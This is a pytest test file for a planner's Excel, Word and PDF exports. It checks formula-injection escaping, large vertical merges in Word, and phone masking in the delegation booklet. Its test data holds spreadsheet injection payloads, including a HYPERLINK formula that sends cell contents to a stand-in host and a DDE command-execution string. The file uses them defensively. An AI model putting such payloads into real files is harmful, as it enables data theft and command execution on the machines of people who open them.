"""Exports against hostile and extreme plans (issue 20): no live formula in any Excel
file, Word merges of any length, phones masked in the booklet the delegation gets."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from conftest import run_main
from planner.documents import Documents
from planner.documents.html import sections
from planner.documents.docx import docx_bytes, read_tables
from planner.documents.tables import Table, tables_for
from planner.documents.xlsx import xlsx_bytes
from planner.store import PlanFile

# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = ("=1+1", '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+1+1", "-1+1", "@SUM(A1:A2)",
            "＝1+1", "=cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def hostile(sample):
    """The sample plan with a formula in every kind of text the tables print: the
    programme, groups, sites, sessions, participants (as a roster or a JSON import brings)."""
    def payload(n: int) -> str:
        return PAYLOADS[n % len(PAYLOADS)]

    plan = replace(
        sample,
        programme=replace(sample.programme, title="=1+1"),
        groups=tuple(replace(g, name=payload(i), leader=payload(i + 1), vehicle=payload(i + 2))
                     for i, g in enumerate(sample.groups)),
        sites=tuple(replace(s, name=payload(i), address=payload(i + 3), contact_person=payload(i + 4),
                            contact_phone="=2+2") for i, s in enumerate(sample.sites)),
        sessions=tuple(replace(s, title=payload(i), host=payload(i + 5)) for i, s in enumerate(sample.sessions)),
        participants=tuple(replace(p, name=payload(i), unit=payload(i + 6), title="-副县长")
                           for i, p in enumerate(sample.participants)),
    )
    return Documents(plan)


@pytest.mark.parametrize("document", ["overview", "group", "roster", "contacts", "rooming", "bus", "booklet"])
def test_no_text_becomes_a_formula_in_any_workbook(hostile, document):
    data = xlsx_bytes(tables_for(hostile, document))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(FORMULA_STARTS)]
    assert risky, "the payloads reached the workbook"
    assert {c.value for c in risky} & set(PAYLOADS), "shown exactly as written"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [(c.coordinate, c.value) for c in risky
                                                                       if not c.quotePrefix]
    plain = [c for c in cells if not c.value.startswith(FORMULA_STARTS)]
    assert plain and not any(c.quotePrefix for c in plain), "ordinary text is left as it is"


def test_a_roster_formula_reaches_no_workbook_through_the_command_line(tmp_path, sample_path):
    roster = tmp_path / "名单.csv"
    roster.write_text('姓名,单位,手机\n"=HYPERLINK(""http://example.invalid"",""x"")",某县,13812345678\n'
                      "@SUM(1+1),某市,13912345678\n", encoding="utf-8")
    assert run_main("roster", "import", sample_path, roster).returncode == 0
    assert run_main("roster", "assign", sample_path).returncode == 0
    out = tmp_path / "roster.xlsx"
    result = run_main("export", sample_path, "--format", "xlsx", "--document", "roster", "--out", out)
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)
    names = {c.value: c for sheet in book for row in sheet.iter_rows() for c in row}
    for payload in ('=HYPERLINK("http://example.invalid","x")', "@SUM(1+1)"):
        assert names[payload].data_type == "s" and names[payload].quotePrefix


def test_a_vertical_merge_of_1500_rows_makes_a_word_file(tmp_path):
    """python-docx's merge recursed once per row: a day of 1,100 sessions raised
    RecursionError. The merged column reads back right, as Word stores it."""
    rows = [["2月23日（星期日）", f"{8 + i // 60:02d}:{i % 60:02d}", f"现场教学 {i}", "某宾馆"] for i in range(1500)]
    rows += [["2月24日（星期一）", "08:00", "结业式", "某宾馆"]]
    table = Table("第一组", "第一组行程安排", "", ("日期", "时间", "内容", "住宿"), (10, 6, 20, 10), rows,
                  group_column=0, merge_columns=(0, 3))
    data = docx_bytes([table])
    body = read_tables(data)[0]
    assert [row[0] for row in body] == [row[0] for row in rows]
    assert [row[3] for row in body] == ["某宾馆"] * 1500 + ["某宾馆"]
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert xml.count('w:val="restart"') == 2  # the first day's date and hotel (day 2 has one row)
    assert len(re.findall(r'<w:vMerge w:val="continue"/>|<w:vMerge/>', xml)) == 2 * 1499


def test_the_booklet_masks_every_phone_and_the_liaisons_list_keeps_them(sample):
    """docs/roster.md: documents for the whole delegation mask phones; the booklet is one,
    though it carries each group's contact list (内部使用). The contacts document itself
    is the liaisons' and keeps full numbers."""
    docs = Documents(sample)
    staff = {p.phone for p in sample.participants if p.role in ("group_leader", "liaison") and p.phone}
    site_phones = {s.contact_phone for s in sample.sites if s.contact_phone}
    assert staff and site_phones
    booklet = [s.data for s in sections(docs, "booklet") if s.kind == "contacts"]
    shown = [phone for g in booklet for _, _, phone in g.staff] + [r.phone for g in booklet for r in g.rows if r.phone]
    assert shown and all("****" in phone for phone in shown)
    text = str([t.rows for t in tables_for(docs, "booklet")] + [t.subtitle for t in tables_for(docs, "booklet")])
    assert not any(number in text for number in staff | site_phones)
    full = tables_for(docs, "contacts")
    full_text = str([t.rows for t in full] + [t.subtitle for t in full])
    assert all(number in full_text for number in staff)
    contacts = [s.data for s in sections(docs, "contacts")]
    assert all(phone in staff for g in contacts for _, _, phone in g.staff)


def test_the_booklet_pdf_page_shows_no_full_phone(tmp_path, sample_path, sample):
    """The page the booklet PDF is printed from (its HTML) holds no complete mobile number."""
    from ui.printing.pdf import document_html

    with PlanFile.open(sample_path, readonly=True) as plan_file:
        docs = Documents(plan_file.load())
    html, _ = document_html(docs, "booklet", with_maps=False)
    phones = {p.phone for p in sample.participants if p.phone} | {s.contact_phone for s in sample.sites if s.contact_phone}
    assert "联络通讯录" in html and "****" in html
    assert not any(phone in html for phone in phones)
